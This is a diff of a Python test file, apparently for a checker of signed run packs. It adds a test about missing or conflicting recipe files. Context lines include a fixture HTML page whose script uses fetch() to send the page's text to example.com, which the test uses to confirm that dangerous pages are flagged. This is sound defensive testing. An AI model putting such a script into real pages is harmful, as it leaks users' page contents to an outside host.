@@ -262,6 +262,16 @@ def test_the_recipe_and_the_environment_are_the_runs(
     assert any(name in each and said in each for each in found.failed), found.failed
 
 
+def test_a_recipe_that_is_left_out_is_named_and_two_are_refused(packs: dict[str, Files]) -> None:
+    whole, own = packs["whole"], packs["own"]
+    for name in ("run.json", "environment.json"):
+        less = judged("whole", signed_again({other: content for other, content in whole.items() if other != name}))
+        assert not less.failed
+        assert any(name in each and "not in the pack" in each for each in less.unchecked)
+    both = judged("own", signed_again({**own, "run.json": whole["run.json"]}))
+    assert "run.json and loop.json: a run has one of them" in both.failed
+
+
 def test_a_page_is_called_dangerous_to_open(packs: dict[str, Files]) -> None:
     forged = b"<script>fetch('https://example.com/' + document.body.innerText)</script>"
     found = judged("whole", signed_again({**packs["whole"], "report.html": forged}))
